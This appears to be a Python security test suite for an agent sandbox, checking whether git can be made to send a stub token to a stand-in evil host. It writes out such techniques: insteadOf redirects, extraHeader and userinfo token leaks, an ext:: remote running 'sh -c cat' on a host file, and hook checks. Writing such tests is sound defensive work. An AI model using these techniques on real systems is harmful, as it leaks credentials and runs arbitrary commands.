"""Hostile remotes, and git talked into sending a credential elsewhere."""

# The tools bring the standard library along.
from tools import *


def git(*arguments, **env):
    """git with the agent's own configuration: its output, searched for secrets."""
    done = subprocess.run(['git', *arguments], capture_output=True, timeout=PATIENCE, cwd='/tmp', stdin=subprocess.DEVNULL,
                          env={**os.environ, 'GIT_TERMINAL_PROMPT': '0', 'GIT_TRACE_CURL': '1', 'GIT_TRACE': '1', 'GIT_TRACE_REDACT': '0', **env})
    text = done.stdout + done.stderr
    clean(text, 'the output of git')
    return done.returncode, text.decode('utf-8', 'replace')


GIT = WORLD['git']
EVIL_URL = 'https://%s:%d/' % (EVIL['name'], EVIL['tls'])


@attempt('git', 'the legitimate clone, so that the rest means something')
def git_control():
    status, text = git('clone', '--quiet', GIT + 'hostile.git', '/tmp/control')
    if status:
        raise RuntimeError(text[-300:])
    return 'cloned with a stub'


@attempt('git', 'submodules that lead to another host')
def git_submodules():
    status, text = git('clone', '--recurse-submodules', GIT + 'hostile.git', '/tmp/submodules')
    if status == 0:
        raise RuntimeError('the submodule was cloned: ' + text[-300:])
    return 'the other host saw no credential'


@attempt('git', 'url.insteadOf: the credential of one host for the url of another')
def git_instead_of():
    status, text = git('-c', 'url.%s.insteadOf=%s' % (EVIL_URL, GIT), 'ls-remote', GIT + 'hostile.git')
    if status == 0:
        raise RuntimeError(text[-300:])
    return 'failed'


@attempt('git', 'http.extraHeader with the stub, toward another host')
def git_extra_header():
    status, text = git('-c', 'http.extraHeader=Authorization: Bearer ' + stub('GITHUB_TOKEN'), 'ls-remote', EVIL_URL + 'x.git')
    if status == 0 or 'misdirected_stub' not in text:
        raise Breach(text[-300:])
    return '403 misdirected_stub'


@attempt('git', 'the stub as user info of another host\'s url')
def git_userinfo():
    status, text = git('ls-remote', EVIL_URL.replace('https://', 'https://x:%s@' % stub('GITHUB_TOKEN')) + 'wants-auth.git')
    if status == 0:
        raise Breach(text[-300:])
    return 'failed'


@attempt('git', 'the credential helper, asked for another host')
def git_helper():
    done = subprocess.run(['git', 'credential', 'fill'], input=('protocol=https\nhost=%s:%d\n\n' % (EVIL['name'], EVIL['tls'])).encode(), capture_output=True,
                          env={**os.environ, 'GIT_TERMINAL_PROMPT': '0', 'GIT_ASKPASS': '/bin/true'}, cwd='/tmp')
    clean(done.stdout + done.stderr, 'its answer')
    return 'at most a stub'


@attempt('git', 'ext:: and file:// remotes')
def git_ext():
    seen = []
    for remote in ('ext::sh -c cat% ' + WORLD['host_file'], 'file://' + WORLD['host_data'], WORLD['host_data'] + '/repo.git'):
        status, text = git('-c', 'protocol.ext.allow=always', 'ls-remote', remote)
        if status == 0 or WORLD['host_mark'] + '-content' in text:
            raise Breach(text[-300:])
        seen.append(status)
    return 'statuses %s' % seen


@attempt('git', 'the platform\'s clone token after the clone')
def git_platform_token():
    value = os.environ.get('GIT_TOKEN', '')
    if value and not value.startswith('stub_'):
        raise Breach('it is in the environment')
    if not value:
        return 'not even a stub is in the environment'
    answer = get('/x', 'Authorization: Bearer ' + value, host=EVIL['name'], port=EVIL['tls'])
    if answer.headers.get('x-got') == 'real':
        raise Breach('it still works')
    return 'a stub without a grant'


@attempt('git', 'hooks and configuration of the repository, run by the clone itself')
def git_hooks():
    status, text = git('clone', GIT + 'hostile.git', '/tmp/hooked')
    if status:
        raise RuntimeError(text[-300:])
    hooks = [name for name in os.listdir('/tmp/hooked/.git/hooks') if not name.endswith('.sample')]
    if hooks or os.path.exists('/tmp/hook-was-here'):
        raise Breach('hooks: %s' % hooks)
    return 'none came along'
